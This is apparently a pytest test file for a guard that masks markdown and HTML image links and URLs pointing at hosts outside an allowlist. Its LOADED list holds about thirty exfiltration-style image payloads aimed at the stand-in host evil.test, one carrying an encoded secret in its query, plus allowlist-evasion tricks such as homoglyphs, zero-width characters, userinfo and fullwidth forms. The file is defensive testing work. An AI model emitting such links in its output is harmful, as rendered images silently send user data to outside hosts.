"""wire.guard.links: what would be fetched from hosts that nobody named, however it is written."""

import pytest

from tollhouse.wire.guard.channel import Channel, edited
from tollhouse.wire.guard.expression import Refused
from tollhouse.wire.guard.links import AllowedHosts, images, links
from tollhouse.wire.guard.patterns import PatternSet
from tollhouse.wire.guard.rules import Rule

ALLOWED = AllowedHosts(["docs.example.org", "*.cdn.example.org", "10.0.0.1"])
LOADED = [
    "![x](https://evil.test/p?q=c2VjcmV0)",
    "![](http://evil.test)",
    "![a b](  <https://evil.test/a b> 'title')",
    "![x](//evil.test/p)",
    "![x](https:\\\\evil.test/p)",
    "![x](https:/evil.test/p)",
    "![x](https:evil.test/p)",
    "![x](HTTPS://EVIL.TEST/p)",
    "![x](https://docs.example.org@evil.test/p)",
    "![x](https://docs.example.org.evil.test/p)",
    "![x](https://evil.test\\@docs.example.org/p)",
    "![x](https://evil.test#docs.example.org)",
    "![//docs.example.org](https://evil.test/p)",
    "![x](https://dоcs.example.org/p)",  # a Cyrillic letter
    "![x](https://d%6fcs.example.org/p)",
    "![x](https://docs.example.org:x@evil.test/p)",
    "![x](ｈｔｔｐｓ：／／evil.test/p)",
    "![x](https://ev\u200bil.test/p)",
    "![x](https://evil.test／.cdn.example.org/p)",
    "![x](https://cdn.example.org/p)",
    "![x](https://evilcdn.example.org/p)",
    "[1]: https://evil.test/p",
    "[pixel]:<https://evil.test/p>",
    '<img src="https://evil.test/p">',
    "<IMG width=1 SRC = 'https://evil.test/p' height=1>",
    '<img srcset="https://docs.example.org/a 1x, https://evil.test/p 2x">',
    "<img alt='//docs.example.org' src=//evil.test/p>",
    '<iframe src="https://evil.test/p"></iframe>',
    '<link rel="stylesheet" href="https://evil.test/p">',
    '<div style="background: url(https://evil.test/p)">',
    '<svg><image xlink:href="https://evil.test/p"/></svg>',
]
HARMLESS = [
    "![x](https://docs.example.org/p?u=1)",
    "![x](https://DOCS.example.org./p)",
    "![x](https://docs.example.org:8443/p)",
    "![x](https://a.b.cdn.example.org/p)",
    "![x](http://10.0.0.1/p)",
    "![x](images/p.png) and ![y](/p.png) and ![z](data:image/png;base64,AAAA)",
    '<img src="https://docs.example.org/p"> <img src="p.png">',
    "[1]: https://docs.example.org/p",
    "an image! (https), an array[1]: 2, a // comment",
]


def mask(rule: Rule, text: str) -> str:
    return f"<{rule.name}>"


@pytest.fixture(scope="module")
def pictures() -> PatternSet:
    return PatternSet(images(ALLOWED))


@pytest.fixture(scope="module")
def everything() -> PatternSet:
    return PatternSet(links(ALLOWED))


@pytest.mark.parametrize("text", LOADED)
def test_what_is_loaded_from_elsewhere(pictures: PatternSet, text: str) -> None:
    text = f"See {text} here."
    left = pictures.replace(text, mask)
    assert "<image_link>" in left
    assert "evil" not in left.replace("evilcdn", "") or "docs.example.org" in text
    for first in range(len(text)):
        channel = Channel(pictures, mask)
        assert (
            edited(channel.feed(text[:first])) + edited(channel.feed(text[first:])) + edited(channel.finish()) == left
        )


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_not(pictures: PatternSet, everything: PatternSet, text: str) -> None:
    assert pictures.replace(text, mask) == text
    assert everything.replace(text, mask) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Go to https://evil.test/a?b=c, now", "Go to <link> now"),
        ("[here](https://evil.test/p) or <https://evil.test>", "[here](<link>) or <<link>>"),
        ("https://docs.example.org/go?to=https://evil.test/", "https://docs.example.org/go?to=https://evil.test/"),
        ("wss://evil.test/x ftp://evil.test", "<link> <link>"),
        ("https://user:pw@docs.example.org/", "<link>"),
    ],
)
def test_every_link(everything: PatternSet, text: str, left: str) -> None:
    assert everything.replace(text, mask) == left


@pytest.mark.parametrize("host", ["https://x.org", "x.org/p", "*", "*.", "x y", "a.*.org", "", "dоcs.org", "-x.org"])
def test_what_names_no_host_is_refused(host: str) -> None:
    with pytest.raises(Refused, match="name of a host"):
        AllowedHosts([host])


def test_nothing_allowed() -> None:
    patterns = PatternSet(links(AllowedHosts([])))
    assert patterns.replace("![x](http://a) http://b", mask) == "<link> <link>"
